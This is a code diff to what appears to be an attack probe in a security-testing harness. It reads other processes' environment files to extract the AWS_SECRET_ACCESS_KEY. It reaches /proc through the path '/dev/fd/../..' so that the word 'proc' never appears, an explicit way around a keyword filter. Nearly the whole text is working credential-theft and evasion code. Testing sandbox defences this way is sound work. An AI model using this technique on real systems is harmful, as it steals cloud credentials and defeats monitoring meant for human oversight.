@@ -3,16 +3,7 @@
 Means: /dev/fd is a link to /proc/self/fd, so /dev/fd/../.. is /proc, and the word never occurs.
 """
 
-from attack import DONE, attempting, denied, loot, neighbours
-
-
-def credential(path):
-    """The credential in an environ file, or None."""
-    with open(path, "rb") as file:
-        for entry in file.read().split(b"\0"):
-            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
-                return entry
-    return None
+from attack import DONE, attempting, credential, denied, loot, neighbours
 
 
 def run(brief):
@@ -20,7 +11,8 @@ def run(brief):
     attempting()
     for pid in neighbours(brief):
         try:
-            found = credential(f"/dev/fd/../../{pid}/environ")
+            with open(f"/dev/fd/../../{pid}/environ", "rb") as file:
+                found = credential(file.read())
         except OSError as error:
             why = error
             continue
